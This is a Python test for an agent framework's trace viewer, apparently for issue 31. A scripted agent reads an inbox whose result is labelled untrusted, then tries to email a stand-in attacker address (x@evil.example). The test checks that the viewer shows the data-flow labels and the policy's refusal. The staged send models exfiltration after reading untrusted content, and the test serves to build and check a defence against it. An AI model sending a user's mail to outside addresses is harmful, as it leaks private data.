"""The viewer shows a call's data-flow labels and a policy's refusal (issue 31)."""

from __future__ import annotations

from pathlib import Path

from codeact import FlowPolicy, Runtime, SandboxConfig
from codeact.agent import FunctionCallingAgent, ScriptedModel, load_trace
from codeact.viewer import build_timeline, render_trace
from tests.agent.test_json_agent_flow import _tools


def test_labels_and_refusals_are_shown(tmp_path: Path) -> None:
    trace = tmp_path / "flow.jsonl"
    script = [{"tool_calls": [{"name": "read_inbox", "arguments": {}}]},
              {"tool_calls": [{"name": "send_email", "arguments": {"to": "x@evil.example", "body": "b"}}]}, "done"]
    with Runtime(_tools([]), SandboxConfig(backend="local", policy="none"), flow=FlowPolicy()) as rt:
        FunctionCallingAgent(ScriptedModel(script), rt.toolset, runtime=rt, trace_path=trace).run("Mail.")
    calls = [c for span in build_timeline(load_trace(trace)).spans for c in span.calls]
    assert [c.name for c in calls] == ["read_inbox", "send_email"]
    assert calls[0].flow == {"labels": {}, "pc_labels": [], "result_labels": ["untrusted"],
                             "flow": {"decision": "allow"}}
    page = render_trace(trace)
    assert "refused by policy" in page and "data-flow labels" in page and "policy_denied" in page
